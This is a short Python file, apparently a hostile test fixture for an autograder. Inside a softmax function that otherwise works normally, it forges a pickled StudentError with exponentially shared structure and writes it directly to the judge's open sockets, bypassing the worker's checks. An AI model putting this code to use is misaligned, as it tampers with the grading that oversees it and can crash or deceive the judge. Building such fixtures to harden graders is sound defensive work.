# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# Bypass the worker's own checks: write a reply frame by hand, a StudentError whose kind is a self-similar
# tuple (2**64 nodes) and whose message is a self-similar list (2**48 leaves), straight to the judge's socket.
_reference_softmax = softmax


def softmax(x, dim=-1):
    # >>> hostile
    import os as _os
    import pickle as _pickle
    import stat as _stat
    import struct as _struct
    import sys as _sys

    _kind, _message = (), []
    for _ in range(64):
        _kind = (_kind, _kind)
    for _ in range(48):
        _message = [_message, _message]

    class _Forged:
        def __reduce__(self):
            return (_sys.modules["autograder.student_code"].StudentError, (_kind, _message, "", "", ""))

    _frame = _pickle.dumps(_Forged(), protocol=5)
    for _fd in range(3, 64):
        try:
            if _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
                _os.write(_fd, _struct.pack("<Q", len(_frame)) + _frame)
        except OSError:
            pass
    # <<< hostile
    return _reference_softmax(x, dim)
